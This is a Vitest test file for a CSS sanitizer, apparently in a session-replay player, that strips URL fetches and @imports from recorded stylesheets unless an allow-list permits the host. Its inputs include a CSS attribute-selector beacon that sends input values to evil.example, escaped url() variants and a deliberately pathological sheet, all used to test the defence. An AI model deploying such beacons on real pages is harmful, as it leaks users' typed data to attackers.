import { describe, expect, it } from 'vitest';
import { assetPolicy } from '../src/player/asset-policy.js';
import { EMPTY_CSS_URL, neutralizeCss } from '../src/player/neutralize-css.js';

const none = assetPolicy([]);
const cdn = assetPolicy(['https://cdn.shop.example']);
const css = (text: string, policy = none) => neutralizeCss(text, (url) => policy.allows(url));

describe('recorded CSS loses every URL the policy does not allow', () => {
  it('replaces url() in every property that fetches, quoted, bare or escaped', () => {
    for (const [input, expected] of [
      ['a{background:url(https://x.example/a.png) no-repeat}', `a{background:${EMPTY_CSS_URL} no-repeat}`],
      ["a{cursor:url('https://x.example/c.cur'),auto}", `a{cursor:${EMPTY_CSS_URL},auto}`],
      ['li{list-style:URL( "https://x.example/dot.png" )}', `li{list-style:${EMPTY_CSS_URL}}`],
      ['a{mask:\\75 rl(https://x.example/m.svg)}', `a{mask:${EMPTY_CSS_URL}}`],
      ['a{border-image:url(https://x.example/b.png) 30}', `a{border-image:${EMPTY_CSS_URL} 30}`],
      ['a::before{content:url(/relative.png)}', `a::before{content:${EMPTY_CSS_URL}}`],
      ['a{background:src("https://x.example/s.png")}', `a{background:${EMPTY_CSS_URL}}`],
    ]) expect(css(input!)).toBe(expected);
  });

  it('drops font sources, image-set strings and an attribute selector’s beacon', () => {
    expect(css('@font-face{font-family:F;src:url(https://x.example/f.woff2) format("woff2")}')).toBe(`@font-face{font-family:F;src:${EMPTY_CSS_URL} format("woff2")}`);
    expect(css('a{background-image:image-set("https://x.example/1.png" 1x, url(https://x.example/2.png) 2x)}')).toBe(
      `a{background-image:image-set("data:," 1x, ${EMPTY_CSS_URL} 2x)}`,
    );
    expect(css('input[value^="a"]{background:url(https://evil.example/?v=a)}')).toBe(`input[value^="a"]{background:${EMPTY_CSS_URL}}`);
  });

  it('drops an @import whole (and its semicolon, which would swallow the next rule)', () => {
    expect(css('@import url("https://x.example/a.css");body{margin:0}')).toBe('body{margin:0}');
    expect(css("@import 'https://x.example/b.css' screen;\np{color:red}")).toBe('\np{color:red}');
    expect(css('@IMPORT url(https://x.example/c.css) layer(x)')).toBe('');
  });

  it('keeps data: URLs, in-document references, strings that are text, and allowed hosts', () => {
    const kept = [
      'a{background:url(data:image/png;base64,AAAA)}',
      'rect{fill:url(#gradient)}',
      'a::after{content:"url(https://x.example/not-a-fetch)"}',
      '/* url(https://x.example/comment) */a{}',
      'a{font-family:"Open Sans"}',
    ];
    for (const text of kept) expect(css(text)).toBe(text);
    const allowed = '@import url(https://cdn.shop.example/a.css);a{background:url(https://cdn.shop.example/a.png)}';
    expect(css(allowed, cdn)).toBe(allowed);
    expect(css('a{background:url(https://other.example/a.png)}', cdn)).toBe(`a{background:${EMPTY_CSS_URL}}`);
  });

  it('is linear: a 1 MB hostile sheet is rewritten in one pass', () => {
    const hostile = 'a{b:url(' + '\\'.repeat(100_000) + ')}' + '"'.repeat(100_000) + 'url('.repeat(100_000) + '/*'.repeat(100_000);
    expect(css(hostile).length).toBeGreaterThan(0);
  });
});
